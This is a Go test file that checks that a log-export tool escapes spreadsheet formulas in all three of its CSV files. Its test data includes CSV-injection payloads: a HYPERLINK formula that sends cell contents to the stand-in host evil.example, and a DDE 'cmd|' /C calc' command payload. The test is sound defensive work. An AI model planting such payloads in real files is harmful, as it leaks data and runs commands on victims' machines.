package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/provbot/provbot/diagnose"
	"github.com/provbot/provbot/internal/escape"
)

// readCSVFile reads one exported file the way a reader that knows the
// convention does: encoding/csv, then escape.CSVCellValue on every cell.
func readCSVFile(t *testing.T, path string) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	for _, r := range rows {
		for i, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: cell %q starts a formula", filepath.Base(path), c)
			}
			r[i] = escape.CSVCellValue(c)
		}
	}
	return rows
}

// TestLogsCSVNeutralisesFormulasInEveryFile exports entries whose fields
// are spreadsheet formulas, and reads the three files back.
func TestLogsCSVNeutralisesFormulasInEveryFile(t *testing.T) {
	formulas := []string{`=HYPERLINK("https://evil.example/?x="&A2,"Details")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"}
	var es []diagnose.Entry
	for i, f := range formulas {
		es = append(es, diagnose.Entry{
			ID: f, ChangeID: "change-" + string(rune('a'+i)), ActivityTime: time.Date(2026, 11, 25, 14, i, 0, 0, time.UTC),
			Action: diagnose.ActionCreate, Status: diagnose.ResultFailure,
			Source:           diagnose.Identity{ID: "u1", DisplayName: f, Type: "User"},
			ServicePrincipal: diagnose.ServicePrincipal{ID: "sp1", Name: f},
			Error:            &diagnose.ErrorInfo{Code: f, Reason: f},
			Steps:            []diagnose.Step{{Name: f, Type: diagnose.StepExport, Status: diagnose.ResultFailure, Description: f}},
			Modified:         []diagnose.ModifiedProperty{{Name: f, OldValue: f, NewValue: f}},
		})
	}
	dir := t.TempDir()
	if err := writeLogsCSV(dir, es, nil); err != nil {
		t.Fatal(err)
	}
	entries := readCSVFile(t, filepath.Join(dir, csvEntriesFile))
	steps := readCSVFile(t, filepath.Join(dir, csvStepsFile))
	props := readCSVFile(t, filepath.Join(dir, csvPropertiesFile))
	if len(entries) != len(formulas)+1 || len(steps) != len(formulas)+1 || len(props) != len(formulas)+1 {
		t.Fatalf("rows: %d entries, %d steps, %d properties", len(entries), len(steps), len(props))
	}
	col := func(header []string, name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %q in %q", name, header)
		return -1
	}
	for i, f := range formulas {
		for _, c := range []struct {
			rows [][]string
			name string
		}{{entries, "Id"}, {entries, "Source Name"}, {entries, "Error Code"}, {entries, "Service Principal Name"},
			{steps, "Name"}, {steps, "Description"}, {props, "Name"}, {props, "Old Value"}, {props, "New Value"}} {
			if got := c.rows[i+1][col(c.rows[0], c.name)]; got != f {
				t.Errorf("%s of entry %d reads back as %q, want %q", c.name, i, got, f)
			}
		}
	}
}
